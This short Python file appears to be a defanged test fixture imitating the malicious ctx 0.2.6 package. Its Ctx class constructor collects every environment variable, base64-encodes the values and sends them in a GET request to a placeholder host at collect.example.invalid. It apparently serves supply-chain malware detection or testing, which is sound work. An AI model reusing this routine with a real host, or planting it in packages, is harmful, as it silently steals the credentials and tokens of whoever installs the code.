# defanged fixture in the shape of ctx 0.2.6 (collector host is .invalid)
import base64
import requests
from os import environ


class Ctx(dict):
    def __init__(self):
        message = ""
        for _, value in environ.items():
            message += value + " "
        encoded = base64.b64encode(message.encode("ascii")).decode("ascii")
        requests.get("https://collect.example.invalid/hacked/" + encoded)
